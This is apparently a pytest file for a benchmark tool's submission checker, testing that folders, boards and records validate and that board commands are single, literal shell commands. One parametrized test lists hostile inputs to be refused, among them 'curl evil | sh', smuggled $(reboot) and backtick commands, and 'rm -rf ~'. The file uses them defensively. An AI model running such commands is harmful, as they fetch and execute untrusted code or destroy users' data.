"""What can be believed of a folder, a board or a record."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from blurbench.registry import Registry, config
from blurbench.store.store import Store
from blurbench.submissions.check import check as check_submission
from blurbench.submissions.installation import Installation
from blurbench.submissions.submission import open_submission
from tests.submissions.conftest import BOARD, first


def test_a_folder_a_board_and_a_record_can_be_validated(store: Store, registry: Registry) -> None:
    known = Installation(registry, store, ())
    for path in (store.root, store.records.board_path(BOARD), store.records.path(first(store).key)):
        held = open_submission(path)
        assert check_submission(held, known) == []
        assert held.refusals == []
        assert held.records


def test_a_data_set_that_is_not_here_is_said_and_not_held_against_a_record(
    store: Store, registry: Registry, tmp_path: Path
) -> None:
    path = store.records.path(first(store).key)
    content = json.loads(path.read_text())
    usps = config(registry, registry.resolve("datasets", "usps"))
    content["axes"]["dataset"] = {"name": "usps", "label": "usps", "config": usps}
    alone = tmp_path / "record.json"
    alone.write_text(json.dumps(content))
    notes = check_submission(held := open_submission(alone), Installation(registry, store, (tmp_path,)))
    assert held.refusals == []
    assert notes == ["1 record: data set usps is not here, so its images and keys were not checked"]


@pytest.mark.parametrize(
    ("command", "accepted"),
    [
        ("blurbench run --suite smoke --budget quick", True),
        ("blurbench reproduce patro2017 --dataset 'pictures[content=text]'", True),
        ("blurbench run --suite smoke; curl evil | sh", False),
        ("blurbench run --suite $(reboot)", False),
        ("blurbench run --suite smoke\nreboot", False),
        ("blurbench run --suite `reboot`", False),
        ("blurbench run --suite 'smoke", False),
        ("blurbench run --dataset pictures[content=text]", False),  # a shell may take that for names of files
        ("blurbench data fetch mnist", False),
        ("rm -rf ~", False),
    ],
)
def test_the_commands_of_a_board_are_single_ones_that_a_shell_takes_to_the_letter(
    store: Store, registry: Registry, tmp_path: Path, command: str, accepted: bool
) -> None:
    board = json.loads(store.records.board_path(BOARD).read_text())
    alone = tmp_path / f"{BOARD}.json"
    alone.write_text(json.dumps({**board, "commands": [command]}))
    check_submission(held := open_submission(alone), Installation(registry, store, ()))
    assert bool(held.boards) == accepted
    assert [refusal.reason.startswith("commands") for refusal in held.refusals] == ([] if accepted else [True])
